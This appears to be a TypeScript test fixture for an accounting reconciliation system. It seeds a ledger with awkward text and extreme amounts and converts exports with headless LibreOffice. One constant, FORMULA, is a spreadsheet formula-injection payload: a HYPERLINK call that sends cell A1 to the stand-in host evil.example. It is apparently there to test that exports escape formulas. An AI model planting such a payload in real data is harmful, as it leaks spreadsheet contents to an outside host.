import { execFile } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { randomUUID } from 'node:crypto';
import type { TestDatabase } from '../helpers/database.js';
import { insertFinding } from '../http/operator-harness.js';
import { factoringEvent, importReport, invoiceEvent, invoiceRow, payoutEvent } from '../payout-reports/fixtures.js';
import { importCsv, pass } from '../statements/fixtures.js';
import { orderEvent, pollRun, snapshot } from '../reconcile/fixtures.js';

const run = promisify(execFile);

/** Awkward text an accountant's ledger really holds: umlauts, an ampersand, quotes, a semicolon, a line break. */
export const MUELLER = 'Müller & Söhne; "Rechnung"\nZeile 2';
export const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"klick")';
export const PAYOUT_UUID = '00000000-0000-4000-8000-0000000000a1';
export const BIG_PAYOUT_UUID = '00000000-0000-4000-8000-0000000000b2';
export const BIG_CENTS = '9223372036854775807';
export const BIG_AMOUNT = '92233720368547758.07';

/**
 * A ledger with the content a morning's reports carry: an invoice near midnight, a factored one,
 * a payout of 12.05 EUR credited by the bank with its payout report imported, a payout of 19-digit
 * cents, findings with awkward text and an acknowledgement, an order named "Müller & Söhne".
 */
export async function buildLedger(db: TestDatabase): Promise<void> {
  const order = '00000000-0000-4000-8000-0000000000c3';
  await invoiceEvent(db, { ref: 'INV-2026-0001', order, eventTime: '2026-03-01T23:59:59.999000000Z', grossCents: 1205n });
  await factoringEvent(db, { ref: 'INV-2026-0001', cents: 1205n, receivedAt: '2026-03-02T00:00:01Z' });
  await invoiceEvent(db, { ref: 'INV-2026-0002', order, eventTime: '2026-03-02T00:00:00.000000000Z', grossCents: 123456789012n });
  await payoutEvent(db, { uuid: PAYOUT_UUID, sepa: 'PO2026030300000001', cents: 1205n, eventTime: '2026-03-03T23:59:59.000000000Z', invoices: ['INV-2026-0001'] });
  await payoutEvent(db, { uuid: BIG_PAYOUT_UUID, sepa: 'PO2026030300000002', cents: BigInt(BIG_CENTS), eventTime: '2026-03-03T10:00:00.000000000Z' });
  await importCsv(db, [{ ref: 'B-1', date: '2026-03-04', cents: 1205n, sepa: 'PO2026030300000001' }]);
  await importReport(db, [invoiceRow({ doc: 'INV-2026-0001', cents: 1205n, ref: 'PO2026030300000001' })]);
  const run0 = await pollRun(db, new Date('2026-03-01T00:00:00Z'));
  await snapshot(db, { order, state: 'confirmed', seenAt: new Date('2026-03-01T00:00:00Z'), runId: run0, externalReferenceId: MUELLER });
  await orderEvent(db, { order: randomUUID(), state: 'confirmed', eventTime: '2026-03-01T23:59:59.123456789Z', receivedAt: new Date('2026-03-02T00:00:00Z'), externalReferenceId: 'Müller & Söhne' });
  await pass(db, new Date('2026-03-20T12:00:00Z'));
  await insertFinding(db, { kind: 'orphan_webhook', entity: randomUUID(), ref: FORMULA, details: `Order of ${MUELLER} named by a webhook; the API does not know it.` });
  await insertFinding(db, { kind: 'payout_unknown_invoice', entity: randomUUID(), sepa: 'PO2026030300000009', observed: '000123', details: 'Listed invoice 000123 is unknown.' });
}

/**
 * Opens files in LibreOffice Calc headless with the given import filter and saves them as flat ODS
 * (one soffice run for all: a throwaway profile keeps runs independent).
 */
export async function toFods(files: string[], outDir: string, infilter?: string): Promise<string[]> {
  const profile = await mkdtemp(path.join(tmpdir(), 'lo-profile-'));
  try {
    await run('soffice', [`-env:UserInstallation=${pathToFileURL(profile).href}`, '--headless', '--norestore', ...(infilter ? [`--infilter=${infilter}`] : []), '--convert-to', 'fods', '--outdir', outDir, ...files], { timeout: 120_000 });
  } finally {
    await rm(profile, { recursive: true, force: true });
  }
  return files.map((f) => path.join(outDir, `${path.parse(f).name}.fods`));
}
